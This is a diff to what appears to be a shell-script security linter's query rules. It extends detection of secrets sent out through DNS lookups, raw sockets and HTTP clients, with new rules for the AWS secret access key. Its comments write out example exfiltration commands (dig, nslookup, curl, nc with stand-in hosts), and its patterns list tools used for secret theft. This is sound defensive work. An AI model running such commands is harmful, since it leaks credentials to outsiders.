@@ -93,10 +93,11 @@
  (#set! message "opens a network connection"))
 
 ; dig "$AWS_SECRET_ACCESS_KEY.x.example", nslookup "$(printenv TOKEN |
-; base64).x.example": a secret of the environment sent out as a name to look
+; base64).x.example", getent ahosts "$k.x.example", traceroute "$k.x.example"
+; (each resolves the name first): a secret of the environment sent out as a name to look
 ; up (DNS carries it even where nothing else may connect)
 ((command argument: (_) @arg) @n @finding
- (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6")
+ (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6|getent|resolvectl|systemd-resolve|traceroute6?|tracepath6?|mtr|fping|avahi-resolve(-host-name)?")
  (#match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv|(^|[^\\w-])env([^\\w-]|$)")
  (#set! id "sh-secret-exfil")
  (#set! severity "high")
@@ -108,7 +109,7 @@
 ; is how OAuth and many APIs take it)
 ((pipeline) @finding
  (#match? @finding "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)")
- (#contains-call? @finding "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv")
+ (#contains-call? @finding "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv|getent|resolvectl|systemd-resolve")
  (#set! id "sh-secret-exfil")
  (#set! severity "high")
  (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))
@@ -117,18 +118,53 @@
 ; TOKEN; }; dig "$(tok).x.example", tok | nc h 9: the same secret kept in
 ; a variable or printed by the program's own function
 ((command argument: (_) @arg) @n @finding
- (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6")
+ (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6|getent|resolvectl|systemd-resolve|traceroute6?|tracepath6?|mtr|fping|avahi-resolve(-host-name)?")
  (#bound-text-match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
  (#set! id "sh-secret-exfil")
  (#set! severity "high")
  (#set! message "puts a secret of the environment into a host name it looks up: sent out through DNS"))
 
 ((pipeline (_) @src (_) @sink) @finding
- (#contains-call? @sink "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv")
+ (#contains-call? @sink "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv|getent|resolvectl|systemd-resolve")
  (#bound-text-match? @src "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
  (#set! id "sh-secret-exfil")
  (#set! severity "high")
  (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))
+
+;   curl -d "k=$AWS_SECRET_ACCESS_KEY" u, curl --variable
+;   %AWS_SECRET_ACCESS_KEY --expand-data '{{AWS_SECRET_ACCESS_KEY}}' u (curl
+;   reads the variable itself), k=$AWS_SECRET_ACCESS_KEY; wget --post-data
+;   "$k" u, printenv AWS_SECRET_ACCESS_KEY | curl --data-binary @- u: the AWS
+;   secret key in what a network client sends. AWS never receives that key
+;   (a request is signed with it), so whoever receives it is someone else
+;   (an API token in a body or a header, an OAuth client secret, stays warn)
+((command) @n @finding
+ (#match? @n "(?i:aws_secret_access_key)")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "sends the AWS secret access key over the network: AWS never receives that key (requests are signed with it), so this gives it away"))
+
+((command) @n @finding
+ (#bound-text-match? @n "(?i:aws_secret_access_key)")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "sends the AWS secret access key over the network: AWS never receives that key (requests are signed with it), so this gives it away"))
+
+((pipeline (_) @src (_) @sink) @finding
+ (#bound-text-match? @src "(?i:aws_secret_access_key)")
+ (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "pipes the AWS secret access key into a network client: AWS never receives that key (requests are signed with it), so this gives it away"))
+
+((pipeline (_) @src (_) @sink) @finding
+ (#match? @src "(?i:aws_secret_access_key)")
+ (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
+ (#set! id "sh-secret-exfil")
+ (#set! severity "high")
+ (#set! message "pipes the AWS secret access key into a network client: AWS never receives that key (requests are signed with it), so this gives it away"))
 
 ; openssl s_client -connect h:443: a TLS connection (what is piped into it
 ; is sent)
